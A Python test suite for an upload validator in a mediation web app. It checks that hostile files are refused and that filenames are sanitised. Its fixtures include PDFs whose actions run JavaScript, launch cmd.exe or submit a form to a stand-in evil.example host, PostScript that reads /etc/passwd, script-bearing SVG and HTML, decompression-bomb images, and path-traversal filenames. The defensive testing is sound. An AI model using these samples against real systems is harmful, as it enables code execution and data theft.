"""Files that come in: told by their content; what acts, lies or bursts stays outside; honest ones are kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from contextlib import suppress

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import select

from mediation import uploads
from mediation.documents import pdf as press
from mediation.documents.render import Printing, render
from mediation.models.database import db
from mediation.models.evidence import Evidence
from mediation.uploads import BadUpload, examine
from tests.browsers import Page
from tests.counter import register
from tests.documents.paper import example
from tests.pictures import heic, jpeg, pdf, png, recording, webp
from tests.site import Site

LIMIT = 20 * 1024 * 1024
SCRIPT = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def zipped(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return out.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of so many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 10)), (b"IEND", b""))
    )


def annotated(action: Dictionary) -> bytes:
    """The action hides behind a link on the first page."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        page = document.add_blank_page()
        page.obj.Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
        )
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def locked() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()


def nested(depth: int) -> Array:
    found = Array([])
    for _ in range(depth):
        found = Array([found])
    return found


HOSTILE = {
    "nothing": b"",
    "words": "不是文件".encode(),
    "a program of Windows": b"MZ\x90\x00" + b"\0" * 200,
    "a program of Linux": b"\x7fELF" + b"\0" * 200,
    "an archive": zipped(a=b"a"),
    "a document of Office": zipped(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
    "a page of the web": b"<!doctype html><script>alert(1)</script>",
    "a drawing with a script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run",
    "a moving picture": b"GIF89a" + b"\0" * 60,
    "half a telephone's photo": heic(400, 400)[:-40],
    "a telephone's photo that is none": heic(4, 4)[:40] + b"\0\0\0\x10mdat" + b"\0" * 8,
    "half a recording": recording()[:-4],
    "a recording of another kind": b"OggS" + b"\0" * 200,
    "half a picture": png(400, 400)[:-40],
    "half a photograph": jpeg(400, 400)[:200],
    "a picture of 900 million pixels": png_that_claims(30_000, 30_000),
    "a picture of four thousand million": png_that_claims(0xFFFFFFFF // 2, 2),
    "a picture that is none": b"\x89PNG\r\n\x1a\n" + b"\0" * 300,
    "a photograph that is none": b"\xff\xd8\xff\xe0" + b"\0" * 300,
    "a PDF that is none": b"%PDF-1.7\n" + b"\0" * 300,
    "a PDF with a password": locked(),
    "a script at opening": pdf(OpenAction=SCRIPT),
    "a script in the names": pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))),
    "a script behind a link": annotated(SCRIPT),
    "a command": annotated(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
    "a command after another": annotated(
        Dictionary(S=Name.GoTo, D=String("a"), Next=Array([Dictionary(S=Name.Launch, F=String("a"))]))
    ),
    "another file": annotated(Dictionary(S=Name.GoToR, F=String("//evil.example/a"))),
    "a form that is sent": annotated(Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))),
    "a form of XML": pdf(AcroForm=Dictionary(XFA=String("<xdp/>"), Fields=Array([]))),
    "actions of a page": pdf(AA=Dictionary(WC=SCRIPT)),
    "a file inside": pdf(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))),
    "a bottomless pit": pdf(Pit=nested(90)),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("name", ["借条.jpg", "借条.pdf"])
def test_what_does_harm_is_refused_with_a_sentence(what: str, name: str) -> None:
    with pytest.raises(BadUpload) as refused:
        examine(name, HOSTILE[what], limit=LIMIT)
    assert refused.value.text.zh
    assert refused.value.text.en


def test_a_name_in_disguise_does_not_hide_a_script() -> None:
    """`/J#61vaScript` is the same name to every reader."""
    plain = pdf(OpenAction=SCRIPT)
    with pytest.raises(BadUpload):
        examine("a.pdf", plain.replace(b"/JavaScript", b"/J#61vaScript"), limit=LIMIT)


def own_paper() -> bytes:
    return press.draw(render(example("settlement_letter"), Printing())).pdf


HONEST = {
    "a picture": (png(), "image/png"),
    "a photograph": (jpeg(1200, 900), "image/jpeg"),
    "a telephone's photo": (heic(1200, 900), "image/heic"),
    "a picture of the web": (webp(), "image/webp"),
    "a recording": (recording(), "audio/mp4"),
    "a PDF": (pdf(), "application/pdf"),
    "a PDF with a link": (
        annotated(Dictionary(S=Name.URI, URI=String("https://example.org"))), "application/pdf",
    ),
    "a PDF with a way to its third page": (
        pdf(OpenAction=Dictionary(S=Name.GoTo, D=String("a"))), "application/pdf",
    ),
    # Two files in one: kept as the one that it is shown as, and never opened by us as the other.
    "a picture with an archive behind it": (png() + zipped(a=b"a"), "image/png"),
}  # fmt: skip


@pytest.mark.parametrize("what", HONEST)
@pytest.mark.parametrize("name", ["x.exe", "借条.pdf.jpg", ""])
def test_honest_files_are_kept_by_what_they_are(what: str, name: str) -> None:
    content, kind = HONEST[what]
    found = examine(name, content, limit=LIMIT)
    assert (found.media_type, found.content) == (kind, content)
    assert found.name.endswith(uploads.KEPT[kind])


def test_a_paper_of_our_own_can_be_handed_in() -> None:
    assert examine("协议.pdf", own_paper(), limit=LIMIT).media_type == "application/pdf"


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("../../etc/passwd", "passwd.png"),
        ("..\\..\\windows\\system32\\a.exe", "a.png"),
        ("\u202egpj.exe", "gpj.png"),
        ("a\x00b\r\nX: y.png", "abX y.png"),
        ("长" * 300, "长" * 80 + ".png"),
        ("...", "证据.png"),
        ("", "证据.png"),
        ("<img src=x>.png", "img src=x.png"),
    ],
)
def test_a_name_is_only_a_name(name: str, kept: str) -> None:
    assert examine(name, png(), limit=LIMIT).name == kept


def test_too_large_is_said_in_megabytes() -> None:
    with pytest.raises(BadUpload, match="1兆"):
        examine("a.png", png() + b"\0" * 2**20, limit=2**20)


@pytest.mark.parametrize("where", range(0, 700, 23))
def test_a_damaged_file_is_refused_or_read_but_never_crashes(where: int) -> None:
    """Every so many bytes one is turned over."""
    for content in (png(60, 60), jpeg(60, 60), pdf(OpenAction=Dictionary(S=Name.GoTo))):
        hurt = bytearray(content)
        hurt[where % len(hurt)] ^= 0x5A
        with suppress(BadUpload):
            assert examine("a", bytes(hurt), limit=LIMIT).content == bytes(hurt)


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("借条.jpg", b"MZ\x90\x00" + b"\0" * 200, "只收PDF、照片"),
        ("借条.pdf", pdf(OpenAction=SCRIPT), "会自己动的东西"),
        ("借条.pdf", b"", "空的"),
        ("借条.png", png_that_claims(30_000, 30_000), "太大"),
    ],
    ids=["a program", "a script", "nothing", "a bomb"],
)
def test_a_bad_file_leaves_what_was_typed_beside_it(
    site: Site, name: str, content: bytes, said: str
) -> None:
    url = f"/disputes/{register(site)}/evidence"
    page = hand_in(site, url, name, content)
    assert page.status == 422
    assert said in page.words
    assert "2024年3月的借条" in page.text
    assert evidence_kept(site) == 0


def test_a_pdf_by_another_name_is_kept_as_a_pdf_and_never_shown_by_us(site: Site) -> None:
    reference = register(site)
    url, content = f"/disputes/{reference}/evidence", pdf()
    assert hand_in(site, url, "../../借条.jpg", content).status == 303
    assert evidence_kept(site) == 1
    piece = db.session.scalars(select(Evidence)).one()
    number, kind = piece.id, piece.media_type
    db.session.rollback()
    answer = site.browser("zhouguilan").request("GET", f"{url}/{number}/file")
    assert kind == answer.mimetype == "application/pdf"
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert answer.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert answer.data == content


def hand_in(site: Site, url: str, name: str, content: bytes) -> Page:
    browser = site.browser("zhouguilan")
    action, fields = browser.filled(browser.get(url), name="2024年3月的借条", source="陈水根")
    return browser.answer(action, {**fields, "file": (io.BytesIO(content), name)})


def evidence_kept(site: Site) -> int:
    found = len(db.session.scalars(select(Evidence)).all())
    db.session.rollback()
    return found


def test_half_a_picture_is_refused_beside_a_press_that_would_take_it(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """WeasyPrint tells Pillow to accept them wherever both live in one process."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    test_what_does_harm_is_refused_with_a_sentence("half a picture", "借条.jpg")
